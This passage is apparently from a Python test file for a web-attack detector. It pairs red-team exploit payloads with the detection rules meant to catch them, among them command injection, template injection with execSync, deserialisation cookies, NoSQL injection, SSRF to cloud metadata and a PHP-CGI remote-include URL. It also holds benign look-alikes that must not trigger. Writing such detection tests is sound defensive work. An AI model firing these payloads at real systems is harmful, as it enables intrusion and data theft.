    '<samlp:Response xmlns:samlp="urn:oasis:names:tc:SAML:2.0:protocol"/>'
)
ROUND_TWO: list[tuple[str, Event]] = [
    # exploits of the second red-team round, each by the rule that now names it
    ("cmdi.code", form('println "id".execute().text', "script")),  # Jenkins script console
    ("cmdi.code", form("throw new Exception('id'.execute().text);", "groovyProgram")),  # OFBiz
    ("cmdi.code", raw("s=/Index/\\think\\app/invokefunction&function=call_user_func_array")),
    ("cmdi.substitution", xml("<language>$(id>webLib/c)</language>")),  # Hikvision
    ("ssti.code", form("<%= global.process.mainModule.require('child_process').execSync('id') %>")),
    ("ssti.code", form('@{ var s = System.IO.File.ReadAllText("C:\\\\web.config"); }@s', "note")),
    ("ssti.class-binding", form(".jsp", "class.module.classLoader.resources.context.parent")),
    (
        "deserialisation.php",
        header("Cookie", "remember_web=" + _b64(b'O:40:"Illuminate\\Bus":0:{}')),
    ),
    (
        "deserialisation.ruby",
        header(
            "Cookie",
            "s=" + _b64(b"\x04\x08o:@ActiveSupport::Deprecation::DeprecatedInstanceVariableProxy"),
        ),
    ),
    (
        "deserialisation.gadget",
        form('{"as ":{"class":"\\\\GuzzleHttp\\\\Psr7\\\\FnStream","__construct()":{}}}', "config"),
    ),
    (
        "deserialisation.nodejs",
        _multipart({"0": '{"then":"$1:__proto__:then","status":"resolved_model"}'}),
    ),
    ("nosqli.operator-name", api({"pipeline": [{"$match": {}}, {"$out": "users"}]})),
    ("nosqli.where", api({"map": "function(){emit(this.username,this.password_hash)}"})),
    ("nosqli.where", api({"script": {"source": "doc['password_hash'].value.startsWith('$2b')"}})),
    ("nosqli.where", form('admin"; while(true){}; var x="', "username")),
    ("protocol.json-duplicate-key", api_text('{"name":"oops","roles":["_admin"],"roles":[]}')),
    (
        "protocol.graphql-batch",
        api([{"query": f'mutation{{login(u:"admin",p:"{i}"){{t}}}}'} for i in range(10)]),
    ),
    ("protocol.mail-injection", form("ana@gmail.com\nBcc: list@spam.example", "email")),
    ("protocol.ip-spoofing", header("X-Forwarded-For", "127.0.0.1")),
    ("protocol.ip-spoofing", header("X-Forwarded-For", "127.0.0.1, 203.0.113.7")),
    ("protocol.ip-spoofing", header("X-Custom-IP-Authorization", "10.0.0.1")),
    ("protocol.auth-bypass", header("x-middleware-subrequest", "middleware:middleware")),
    ("protocol.method-override", _event("/api/v1/complaints/4411?_method=DELETE", method="POST")),
    ("rfi.php-cgi", raw("-d+allow_url_include%3Don+-d+auto_prepend_file%3Dhttp://45.134.26.77/s")),
    ("ssrf.metadata", header("X-Wap-Profile", "http://169.254.169.254/latest/meta-data/hostname")),
    (
        "ssrf.internal",
        xml(
            "<a xmlns='http://www.w3.org/1' b='http://www.w3.org/2' c='http://"
            "www.w3.org/3' d='http://www.w3.org/4' e='http://www.w3.org/5'>"
            "<x URI='http://127.0.0.1:8090/api/v1/license'/></a>"
        ),
    ),  # after 4 URLs
    ("xxe.external-entity", form(_b64(_SAML_XXE.encode()), "SAMLResponse")),
    ("scanner.oast", header("True-Client-IP", "x9k2m.oastify.com")),
    ("scanner.graphql-introspection", api({"query": "query{__schema{types{name}}}"})),
    ("scanner.secret-file", _event("/s/cfx/_/;/WEB-INF/web.xml")),
    ("scanner.secret-file", _event("/storage/logs/laravel.log")),
    ("scanner.admin-probe", _event("/manager/text/list")),
    ("scanner.admin-probe", _event("/ReportServer/Pages/ReportViewer.aspx")),
]
ROUND_TWO_BENIGN: list[Event] = [
    form("The kiosk says 'C:\\Windows\\System32\\cmd.exe is not responding' again"),
    form("Your docs link points to http://localhost:8080/docs which fails from outside"),
    form('I will execute() the plan, and "execute" it well'),
    form("Thanks for fixing the light; id <3 this city"),  # a heart after a separator
    form("while (the road is closed) we wait; see doc[3] in the annex"),
    form("Subject: pothole\nTo: the mayor\nThe hole on Ilica is back."),  # multi-line text
    form("@{office} hours: 50% off <% sure %>"),
    api({"roles": ["reader"], "name": "Ana", "items": [{"a": 1}, {"a": 2}]}),
    api([{"query": f"mutation{{addItem(n:{i}){{id}}}}"} for i in range(3)]),
    header("X-Forwarded-For", "203.0.113.7, 10.0.0.5"),
    header("X-Forwarded-For", "203.0.113.7, 127.0.0.1"),  # a local proxy hop appended
    form("ana.kovac@gmail.com", "email"),
    q("PDF version please", "note"),
    _event("/documents/2025/web-info.pdf"),
    raw("_method=GET&page=2"),  # asks for the method it came with
]


@pytest.mark.parametrize(("rule", "event"), ROUND_TWO)
def test_second_round_exploits_hit_their_rule(rule: str, event: Event) -> None:
    assert rule in RULES
    assert rule in _rules(event), (event.payload, DETECTOR.inspect(event))


@pytest.mark.parametrize("event", ROUND_TWO_BENIGN)
def test_second_round_look_alikes_do_not_hit(event: Event) -> None:
    assert DETECTOR.inspect(event) == [], event.payload


def test_a_foreign_host_in_forwarded_or_a_host_override_header_is_flagged() -> None:
    detector = WebAttackSignatures(WebAttackConfig(site_hosts=("portal.aldmere.city",)))
    for name, value in (
        ("Forwarded", "host=evil-reset.example;proto=https"),
        ("X-HTTP-Host-Override", "evil-reset.example"),
    ):
        assert _rules(header(name, value), detector) == {"protocol.proxy"}, name
    own = header("Forwarded", "for=192.0.2.60;proto=https;host=portal.aldmere.city")
    assert _rules(own, detector) == set()
    chain = header("Forwarded", "for=192.0.2.60, for=198.51.100.1;host=portal.aldmere.city")
    assert _rules(chain, detector) == set()
    assert _rules(header("Forwarded", "for=192.0.2.60;proto=https"), detector) == set()


def test_a_value_of_superscript_digits_is_no_failure() -> None:
    # "¹" is a digit to str.isdigit and no int: where a bare host is told from a number
    assert ssrf("¹", "url") is None and ssrf("¹²³", "redirect") is None
    request = HttpRequest(method="GET", uri="/p", headers=(("Host", "x"), ("Content-Length", "¹")))
    event = Event(
        id="1", timestamp=1.0, dataset="portal.http", source_ip="1.2.3.4", payload=request
    )
    (hit,) = WebAttackSignatures().inspect(event)
    assert (hit.rule_id, hit.snippet) == ("web.protocol.malformed", "bad-content-length")
